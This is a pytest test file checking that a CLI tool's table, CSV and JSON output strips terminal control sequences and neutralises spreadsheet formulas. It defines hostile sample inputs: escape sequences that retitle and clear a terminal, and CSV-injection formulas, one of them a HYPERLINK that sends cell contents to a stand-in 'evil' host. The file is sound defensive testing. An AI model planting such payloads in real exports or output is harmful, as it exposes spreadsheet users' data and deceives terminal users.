"""Names and texts of strangers reach terminal and CSV without control characters and without formulas."""

import csv
import io
import json
import re

import pytest
from support.cli_documents import CELLS, summary_document

ESCAPES = "ev\x1b]0;PWN\x07\x1b[2J\x9b8m\ril"
FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(A1)", "+1+1", "-1+1", "\t=1+1"]
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def fio(folder, **job):
    """A file of fio's."""
    path = folder / "fio.json"
    path.write_text(json.dumps({"jobs": [{"jobname": "j", "read": {"iops": 10, "bw_bytes": 40960}, **job}]}))
    return path


@pytest.mark.parametrize("format_", ["table", "csv", "json"])
def test_a_job_of_fio_writes_no_escape_sequence(matrix, tmp_path, format_):
    path = fio(tmp_path, jobname=ESCAPES, **{"job options": {"rw": ESCAPES}})
    named = path.rename(tmp_path / f"{ESCAPES}.json")

    for file in (named, tmp_path / f"{ESCAPES}-gone.json"):
        said = matrix("import", str(file), "--format", format_)
        assert not CONTROL.search(said.output), said.output


def test_names_of_folders_write_no_escape_sequence(matrix, keep_run):
    keep_run(ESCAPES)
    folder = keep_run("r")
    (folder / "cells" / ESCAPES).mkdir(parents=True)
    (folder / "cells" / ESCAPES / "result.json").write_text("{}")

    for command in (["runs"], ["runs", "--json"], ["results", "nope"], ["watch", "r"], ["results", ESCAPES],
                    ["logs", "r", CELLS[0]], ["plan", f"{ESCAPES}.json"]):  # fmt: skip
        said = matrix(*command)
        assert not CONTROL.search(said.output), (command, said.output)
    assert "r" in matrix("runs").stdout


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_text_of_a_csv_is_a_formula(matrix, tmp_path, keep_run, formula):
    cells = [{**cell, "fleet": {**cell["fleet"], "instanceType": formula}} for cell in summary_document("r")["cells"]]
    keep_run("r").joinpath("summary.json").write_text(json.dumps({**summary_document(formula), "cells": cells}))
    path = fio(tmp_path, jobname=formula, **{"job options": {"rw": formula}})

    for command in (["results", "r", "--format", "csv"], ["import", str(path), "--format", "csv"]):
        said = matrix(*command)
        assert said.exit_code == 0, said.output
        fields = [field for row in csv.reader(io.StringIO(said.stdout)) for field in row]
        assert f"'{formula}".rstrip() in [field.partition(" (read)")[0] for field in fields]
        assert not [field for field in fields if field.startswith(("=", "+", "@", "\t", "-1+"))]


def test_half_a_character_in_one_file_hides_no_other(matrix, tmp_path):
    path = fio(tmp_path)
    path.write_text(path.read_text().replace('"j"', '"\\ud800"'))

    for format_ in ("table", "csv", "json"):
        assert matrix("import", str(path), "--format", format_).exit_code == 0
